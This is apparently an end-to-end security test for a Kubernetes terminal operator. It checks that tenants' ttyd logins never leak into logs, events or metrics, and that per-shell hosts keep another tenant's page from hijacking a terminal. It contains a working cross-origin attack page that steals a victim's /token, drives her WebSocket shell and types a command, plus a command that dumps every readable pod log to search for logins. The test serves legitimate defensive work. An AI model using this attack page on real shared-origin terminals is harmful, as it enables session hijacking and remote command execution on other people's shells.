/**
 * The terminal's door as tenants attack it (issue 18): restricted users (impersonated, with a Role for
 * CloudShells and nothing else) face the operator under deploy/'s ServiceAccount and RBAC, with real pods
 * (tests/harness/kubelet), the pinned ttyd and, where the browser matters, Chromium.
 *
 * - Logins in logs: a create-only tenant's own terminal reads every log its ServiceAccount (`view`) may read,
 *   the neighbours' terminals' included, and finds no neighbour's login (ttyd's default log level printed
 *   `credential: <base64>`) nor anything typed in their sessions; the login is in no Event, status, Job,
 *   pod, operator log or metric either.
 * - One origin per shell: in Chromium, a page the attacker serves on their own shell's route reads the
 *   victim's `/token` and drives her terminal when both share one host (the shared layout, an
 *   administrator's explicit choice now), and does neither with per-shell hosts. A stand-in for the ingress
 *   controller (_ingress_proxy.ts) routes by the real Ingress objects the operator wrote. Tenants cannot
 *   take another shell's host, an unlisted class or gateway, or join another shell's VirtualService.
 */
import assert from "node:assert/strict";
import { childName, type CloudShell, CloudShells, OWNER_LABEL } from "../../controller/cloudshell/api.ts";
import { KubeClient, type KubeObject, Resources } from "../../controller/kube/mod.ts";
import { installOperatorIdentity, serviceAccountToken, writeTokenKubeconfig } from "../deploy/_identity.ts";
import { DEPLOY_NAME } from "../deploy/_manifests.ts";
import { eventually } from "../harness/cluster.ts";
import { TtydRefused } from "../harness/ttyd_client.ts";
import { findBrowser, runOriginAttack } from "../harness/browser.ts";
import {
  type Ingress,
  type VirtualService,
  VirtualServices,
} from "../../controller/cloudshell/routing/routes.ts";
import { IngressProxy, type ProxyRoute } from "./_ingress_proxy.ts";
import { createCloudShell, OperatorProcess, readyCondition, waitForCloudShell } from "./_operator.ts";
import { grantRole, installVirtualServiceCrd, waitForEvent } from "./_support.ts";
import { openTerminal, terminalCluster } from "./_terminal.ts";

type SecretLike = KubeObject & { data?: Record<string, string> };

/** Gives `user` a Role in `namespace` with `rules`. */
async function grant(admin: KubeClient, namespace: string, user: string, rules: unknown[]): Promise<void> {
  await grantRole(admin, namespace, `tenant-${user}`, rules, { users: [user] });
  // The API server's RBAC informer may take a moment to see a new binding.
  const asUser = admin.impersonating(user, ["system:authenticated"]);
  await eventually(`${user}'s Role to take effect in ${namespace}`, async () => {
    const res = await asUser.request({
      method: "GET",
      path: `/apis/cloudshell.cloudtty.io/v1alpha1/namespaces/${namespace}/cloudshells`,
    });
    await res.body?.cancel();
    return res.ok;
  });
}

const CREATE_ONLY = [{
  apiGroups: ["cloudshell.cloudtty.io"],
  resources: ["cloudshells"],
  verbs: ["create", "get", "list", "watch"],
}];

/** An operator under deploy/'s ServiceAccount and RBAC, installed in `namespace` and watching it. */
async function operatorAsDeployed(
  cluster: Awaited<ReturnType<typeof terminalCluster>>,
  namespace: string,
  args: string[],
): Promise<OperatorProcess & { identity: AsyncDisposable }> {
  const identity = await installOperatorIdentity(cluster, namespace);
  const dir = await Deno.makeTempDir({ prefix: "cloudshell-door-" });
  try {
    const token = await serviceAccountToken(cluster.client, namespace, DEPLOY_NAME);
    const kubeconfig = await writeTokenKubeconfig(
      dir,
      cluster.connection.server,
      token,
      cluster.connection.caPem,
    );
    const op = await OperatorProcess.start(kubeconfig, namespace, [
      `--operator-namespace=${namespace}`,
      `--node-port-host=${cluster.nodeIp}`,
      ...args,
    ]);
    return Object.assign(op, { identity });
  } catch (err) {
    await identity[Symbol.asyncDispose]();
    throw err;
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
}

async function exists(
  admin: KubeClient,
  type: typeof Resources.jobs,
  ns: string,
  name: string,
): Promise<boolean> {
  try {
    await admin.get(type, ns, name);
    return true;
  } catch (err) {
    if ((err as { code?: number }).code === 404) return false;
    throw err;
  }
}

/** Waits until a shell is Ready with a URL; returns it. */
async function ready(admin: KubeClient, ns: string, name: string): Promise<CloudShell> {
  try {
    return await waitForCloudShell(
      admin,
      ns,
      name,
      "Ready with a URL",
      (c) => c.status?.phase === "Ready" && !!c.status.accessUrl,
      60_000,
    );
  } catch (err) {
    const cs = await admin.get<CloudShell>(CloudShells, ns, name).catch(() => undefined);
    throw new Error(`${(err as Error).message}; status: ${JSON.stringify(cs?.status)}`);
  }
}

/** A shell's login, read from the Secret its status names (as an integrating UI hands it to its owner). */
async function loginOf(admin: KubeClient, cs: CloudShell): Promise<string> {
  const secret = await admin.get<SecretLike>(
    Resources.secrets,
    cs.metadata.namespace,
    cs.status!.credentialSecretName!,
  );
  return `${atob(secret.data!.username)}:${atob(secret.data!.password)}`;
}

/** The domain of the test's shell hosts; Chromium resolves it to the ingress stand-in. */
const DOMAIN = "shells.example.test";
/** The flags of a new install's routes: one host per shell, and the one gateway an administrator allows. */
const PER_SHELL_HOSTS = [
  `--ingress-host-pattern={name}.{namespace}.${DOMAIN}`,
  `--virtual-service-host-pattern={name}.{namespace}.${DOMAIN}`,
  "--ingress-hosts-allowed=",
  "--ingress-classes-allowed=",
  "--virtual-service-gateways-allowed=istio-system/internal",
  "--virtual-service-export-to-allowed=",
];

/**
 * The attacker's page: reads the victim's `/token` (the browser adds the login it holds for that origin),
 * opens her terminal's WebSocket with it and types `command`; reports in `window.attackResult`.
 */
const ATTACK_PAGE = `<!doctype html><meta charset="utf-8"><title>cat pictures</title><script>
(async () => {
  const q = new URLSearchParams(location.search);
  const victim = q.get("victim").replace(/\\/$/, "");
  const result = { token: "", output: "", log: [] };
  try {
    const r = await fetch(victim + "/token", { credentials: "include" });
    result.log.push("token-status=" + r.status);
    result.token = (await r.json()).token || "";
  } catch (e) {
    result.log.push("token-error=" + e);
  }
  await new Promise((resolve) => {
    const ws = new WebSocket(victim.replace(/^http/, "ws") + "/ws", ["tty"]);
    ws.binaryType = "arraybuffer";
    const enc = new TextEncoder(), dec = new TextDecoder();
    const done = () => { clearTimeout(timer); resolve(); };
    const timer = setTimeout(() => { result.log.push("ws-timeout"); ws.close(); resolve(); }, 10000);
    ws.onopen = () => {
      result.log.push("ws-open");
      ws.send(enc.encode(JSON.stringify({ AuthToken: result.token, columns: 100, rows: 30 })));
      setTimeout(() => ws.send(enc.encode("0" + q.get("command") + "\\r")), 1000);
      setTimeout(() => { ws.close(); }, 6000);
    };
    ws.onmessage = (m) => {
      const d = new Uint8Array(m.data);
      if (d[0] === 48) result.output += dec.decode(d.slice(1));
    };
    ws.onerror = () => result.log.push("ws-error");
    ws.onclose = (e) => { result.log.push("ws-closed " + e.code); done(); };
  });
  window.attackResult = result;
})();
</script>`;

Deno.test("the terminal's door: logins in logs, and one origin per shell", async (t) => {
  await using cluster = await terminalCluster();
  const admin = cluster.client;
  await installVirtualServiceCrd(admin);
  const ns = await cluster.namespace("e2e-door");
  const op = await operatorAsDeployed(cluster, ns, ["--terminal-credential=generated", ...PER_SHELL_HOSTS]);
  await using _identity = op.identity;
  await using _op = op;

  // alice may only create and read CloudShells; carol may also create Secrets (so she may give her shell a
  // login of her own in TTYD_CREDENTIAL, which the operator keeps in a Secret).
  await grant(admin, ns, "alice", CREATE_ONLY);
  await grant(admin, ns, "carol", [...CREATE_ONLY, {
    apiGroups: [""],
    resources: ["secrets"],
    verbs: ["create"],
  }]);
  const alice = new KubeClient(cluster.connection, {}, { user: "alice", groups: ["system:authenticated"] });
  const carol = new KubeClient(cluster.connection, {}, { user: "carol", groups: ["system:authenticated"] });
  const own = "carol:Own-s3cret-9f2b";
  try {
    await createCloudShell(carol, ns, "victim", { commandAction: "bash" });
    await createCloudShell(carol, ns, "victim-own", {
      commandAction: "bash",
      env: [{ name: "TTYD_CREDENTIAL", value: own }],
    });
    await createCloudShell(alice, ns, "peek", { commandAction: "bash" });
    const [victim, victimOwn, peek] = await Promise.all(
      ["victim", "victim-own", "peek"].map((name) => ready(admin, ns, name)),
    );
    const generated = await loginOf(admin, victim);
    assert.equal(await loginOf(admin, victimOwn), own);
    // Every form a login takes: the plain user:password, the password alone, ttyd's base64 of the pair.
    // And what carol types and reads in her terminal: a session's input and output go over the WebSocket,
    // never to the container log.
    const typed = "session-canary-7f3e";
    const secrets = [
      generated,
      generated.split(":")[1],
      btoa(generated),
      own,
      own.split(":")[1],
      btoa(own),
      typed,
    ];
    const leaks = (text: string) => secrets.filter((s) => text.includes(s));

    {
      await using session = await openTerminal(victim.status!.accessUrl!, { credential: generated });
      assert.equal((await session.run(`echo ${typed}`)).output, typed);
    }
    // Give each victim terminal something to log: a page of another site, refused by the Origin check.
    for (const cs of [victim, victimOwn]) {
      const login = await loginOf(admin, cs);
      await assert.rejects(
        openTerminal(cs.status!.accessUrl!, { credential: login, origin: "https://evil.example.com" }),
        TtydRefused,
      );
    }

    await t.step("alice's terminal reads every log and object it may, and finds no login", async () => {
      await using term = await openTerminal(peek.status!.accessUrl!, {
        credential: await loginOf(admin, peek),
      });
      assert.equal(
        (await term.run("kubectl auth whoami -o jsonpath='{.status.userInfo.username}'")).output,
        `system:serviceaccount:${ns}:cloudshell-peek`,
      );
      // What the review ran: the neighbour's container log, by its owner label.
      const direct = await term.run(
        `kubectl logs -l ${OWNER_LABEL}=victim --tail=-1 2>&1 | grep -c credential: ; true`,
      );
      assert.equal(direct.output.split("\n").at(-1), "0");
      // Everything else the shell's ServiceAccount can read in the namespace, into one file, searched here.
      const dump = "$HOME/everything.txt";
      await term.run(
        `{ for p in $(kubectl get pods -o name); do kubectl logs "$p" --all-containers --tail=-1; done; ` +
          `for r in events pods jobs services configmaps serviceaccounts; do kubectl get "$r" -o yaml; done; } ` +
          `> ${dump} 2>&1; wc -l < ${dump}`,
        30_000,
      );
      const text = (await term.run(`base64 -w0 < ${dump}`, 30_000)).output;
      const everything = new TextDecoder().decode(Uint8Array.from(atob(text), (c) => c.charCodeAt(0)));
      assert.deepEqual(leaks(everything), [], "a neighbour's login is readable from alice's terminal");
      // With `view`, alice's shell reads the neighbours' container logs (ttyd's warnings are there) and the
      // rest of the namespace, and finds neither a login nor anything of carol's sessions.
      assert.match(everything, /different origin/, "the dump holds the neighbours' container logs");
      assert.match(everything, /kind: Pod/, "the dump holds what view reads");
    });

    await t.step("the container log itself (what a log pipeline collects) holds no login", async () => {
      for (const name of ["victim", "victim-own"]) {
        const pods = await admin.list(Resources.pods, {
          namespace: ns,
          labelSelector: `${OWNER_LABEL}=${name}`,
        });
        const pod = pods.items[0].metadata.name!;
        const res = await admin.request({ method: "GET", path: `/api/v1/namespaces/${ns}/pods/${pod}/log` });
        const log = await res.text();
        assert.ok(res.ok, `reading ${pod}'s log: ${res.status} ${log}`);
        assert.match(log, /different origin/, "ttyd's warnings still reach the container log");
        assert.deepEqual(leaks(log), [], `${name}'s container log holds its login:\n${log}`);
      }
    });

    await t.step("nor the Events, statuses, Jobs, pods, the operator's log or its metrics", async () => {
      // (carol's own login is in her CloudShell's spec, which she wrote: documented, and not checked here.)
      const shells = await admin.list<CloudShell>(CloudShells, { namespace: ns });
      const objects = [
        await admin.list(Resources.events, { namespace: ns }),
        shells.items.map((cs) => cs.status),
        await admin.list(Resources.jobs, { namespace: ns }),
        await admin.list(Resources.pods, { namespace: ns }),
        await admin.get(Resources.jobs, ns, childName("victim")),
      ];
      assert.deepEqual(leaks(JSON.stringify(objects)), []);
      assert.deepEqual(leaks(op.logs().join("\n")), []);
      assert.deepEqual(leaks(await op.metrics()), []);
    });

    // Ingress shells: the victim's, and the attacker's, whose route serves the attacker's page.
    await createCloudShell(carol, ns, "bank", { commandAction: "bash", exposureMode: "Ingress" });
    await createCloudShell(alice, ns, "cats", { commandAction: "bash", exposureMode: "Ingress" });
    const [bank, cats] = await Promise.all(["bank", "cats"].map((name) => ready(admin, ns, name)));

    await t.step("each Ingress shell gets a host of its own, in an Ingress of its own", async () => {
      assert.equal(bank.status?.accessUrl, `bank.${ns}.${DOMAIN}/apis/v1alpha1/cloudshell/bank`);
      assert.equal(cats.status?.accessUrl, `cats.${ns}.${DOMAIN}/apis/v1alpha1/cloudshell/cats`);
      const ing = await admin.get<Ingress>(Resources.ingresses, ns, childName("bank"));
      assert.deepEqual(ing.spec?.rules?.map((r) => r.host), [`bank.${ns}.${DOMAIN}`]);
    });

    await t.step(
      "tenants cannot take another shell's host, an unlisted host or class, or a gateway",
      async () => {
        const refusals: [string, Record<string, unknown>, string][] = [
          [
            "squat",
            { exposureMode: "Ingress", ingressConfig: { host: `bank.${ns}.${DOMAIN}` } },
            "IngressHostNotAllowed",
          ],
          [
            "apphost",
            { exposureMode: "Ingress", ingressConfig: { host: "bank.example.com" } },
            "IngressHostNotAllowed",
          ],
          [
            "public",
            { exposureMode: "Ingress", ingressConfig: { ingressClassName: "public-internet" } },
            "IngressClassNotAllowed",
          ],
          ["gw", {
            exposureMode: "VirtualService",
            virtualServiceConfig: { gateway: "istio-system/public-internet-gateway" },
          }, "GatewayNotAllowed"],
          [
            "export",
            { exposureMode: "VirtualService", virtualServiceConfig: { export_to: "*" } },
            "ExportToNotAllowed",
          ],
        ];
        for (const [name, spec] of refusals) await createCloudShell(alice, ns, name, spec);
        for (const [name, , reason] of refusals) {
          const cs = await waitForCloudShell(
            admin,
            ns,
            name,
            reason,
            (c) => readyCondition(c)?.reason === reason,
          );
          assert.equal(readyCondition(cs)?.status, "False");
          await waitForEvent(admin, ns, name, "Warning", reason);
          assert.equal(await exists(admin, Resources.jobs, ns, childName(name)), false, `${name} got a Job`);
        }
      },
    );

    await t.step("a tenant cannot join another shell's VirtualService (its host, its origin)", async () => {
      await createCloudShell(carol, ns, "vault", {
        commandAction: "bash",
        exposureMode: "VirtualService",
        virtualServiceConfig: { gateway: "istio-system/internal" },
      });
      const vault = await ready(admin, ns, "vault");
      assert.equal(vault.status?.accessUrl, `vault.${ns}.${DOMAIN}/apis/v1alpha1/cloudshell/vault`);
      const vs = await admin.get<VirtualService>(VirtualServices, ns, childName("vault"));
      assert.deepEqual(vs.spec?.hosts, [`vault.${ns}.${DOMAIN}`]);
      await createCloudShell(alice, ns, "joiner", {
        exposureMode: "VirtualService",
        virtualServiceConfig: { virtualServiceName: childName("vault"), gateway: "istio-system/internal" },
      });
      await waitForCloudShell(
        admin,
        ns,
        "joiner",
        "RouteHostConflict",
        (c) => readyCondition(c)?.reason === "RouteHostConflict",
      );
      await waitForEvent(admin, ns, "joiner", "Warning", "RouteHostConflict");
      const after = await admin.get<VirtualService>(VirtualServices, ns, childName("vault"));
      assert.equal(
        after.metadata.resourceVersion,
        vs.metadata.resourceVersion,
        "vault's VirtualService changed",
      );
    });

    // The shared layout, as an administrator may still choose it: one host for every shell.
    const shared = await cluster.namespace("e2e-door-shared");
    const sharedOp = await operatorAsDeployed(cluster, shared, [
      "--terminal-credential=generated",
      ...PER_SHELL_HOSTS,
      `--ingress-host-pattern=${DOMAIN}`,
    ]);
    await using _sharedIdentity = sharedOp.identity;
    await using _sharedOp = sharedOp;
    await grant(admin, shared, "alice", CREATE_ONLY);
    await grant(admin, shared, "carol", CREATE_ONLY);
    await createCloudShell(carol, shared, "bank", { commandAction: "bash", exposureMode: "Ingress" });
    await createCloudShell(alice, shared, "cats", { commandAction: "bash", exposureMode: "Ingress" });
    const [sharedBank] = await Promise.all(["bank", "cats"].map((name) => ready(admin, shared, name)));
    assert.equal(sharedBank.status?.accessUrl, `${DOMAIN}/apis/v1alpha1/cloudshell/bank`);

    // The ingress controller: the operator's Ingresses, each Service reached through a NodePort twin (the
    // stand-in serves node ports, not cluster IPs); the attacker's route serves the attacker's page.
    const twins = new Map<string, string>();
    const twin = async (namespace: string, service: string) => {
      const key = `${namespace}/${service}`;
      if (!twins.has(key)) {
        const svc = await admin.get<KubeObject & { spec: { selector: Record<string, string> } }>(
          Resources.services,
          namespace,
          service,
        );
        type NodePortService = KubeObject & { spec: { ports: { nodePort: number }[] } };
        const made = await admin.create<NodePortService>(
          Resources.services,
          {
            apiVersion: "v1",
            kind: "Service",
            metadata: { name: `${service}-np`, namespace },
            spec: {
              type: "NodePort",
              selector: svc.spec.selector,
              ports: [{ port: 7681, targetPort: 7681 }],
            },
          } as unknown as NodePortService,
        );
        twins.set(key, `${cluster.nodeIp}:${made.spec.ports[0].nodePort}`);
      }
      return twins.get(key)!;
    };
    const routes = async (): Promise<ProxyRoute[]> => {
      const found: ProxyRoute[] = [];
      for (const namespace of [ns, shared]) {
        const list = await admin.list<Ingress>(Resources.ingresses, { namespace });
        for (const ing of list.items) {
          for (const rule of ing.spec?.rules ?? []) {
            for (const p of rule.http?.paths ?? []) {
              const service = p.backend.service!.name;
              const target = service === childName("cats")
                ? { page: ATTACK_PAGE }
                : await twin(namespace, service);
              found.push({ host: rule.host, path: p.path!, target });
            }
          }
        }
      }
      return found;
    };
    await using proxy = IngressProxy.start(routes);
    const browserUrl = (accessUrl: string) => {
      const slash = accessUrl.indexOf("/");
      return `http://${accessUrl.slice(0, slash)}:${proxy.port}${accessUrl.slice(slash)}`;
    };
    const command = "echo STOLEN-$((6*7)) $(kubectl auth whoami -o jsonpath={.status.userInfo.username})";

    const browser = findBrowser();
    if ("missing" in browser) console.error(`SKIPPED the browser steps: ${browser.missing}`);
    await t.step({
      name: "per-shell hosts: the attacker's page reads no token and drives no terminal",
      ignore: "missing" in browser,
      fn: async () => {
        const result = await runOriginAttack((browser as { chromium: string }).chromium, {
          victimUrl: browserUrl(bank.status!.accessUrl!),
          attackerUrl: browserUrl(cats.status!.accessUrl!),
          credential: await loginOf(admin, bank),
          resolve: [`*.${DOMAIN}`, DOMAIN],
          command,
        });
        const why = JSON.stringify({ ...result, proxy: proxy.requests }, null, 1);
        assert.ok(result.victimLines.join("").trim(), `the victim's own terminal did not open: ${why}`);
        assert.equal(result.attack.token, "", why);
        assert.doesNotMatch(result.attack.output, /STOLEN-42/, why);
        assert.ok(result.attack.log.some((l) => l.startsWith("token-error")), why);
      },
    });

    await t.step({
      name: "the shared layout (one host, an administrator's choice) is one origin: the same page succeeds",
      ignore: "missing" in browser,
      fn: async () => {
        const result = await runOriginAttack((browser as { chromium: string }).chromium, {
          victimUrl: browserUrl(sharedBank.status!.accessUrl!),
          attackerUrl: browserUrl(`${DOMAIN}/apis/v1alpha1/cloudshell/cats`),
          credential: await loginOf(admin, sharedBank),
          resolve: [`*.${DOMAIN}`, DOMAIN],
          command,
        });
        const why = JSON.stringify({ ...result, proxy: proxy.requests }, null, 1);
        assert.equal(result.attack.token, btoa(await loginOf(admin, sharedBank)), why);
        assert.match(
          result.attack.output,
          new RegExp(`STOLEN-42 system:serviceaccount:${shared}:cloudshell-bank`),
          why,
        );
      },
    });
  } finally {
    alice.close();
    carol.close();
  }
});
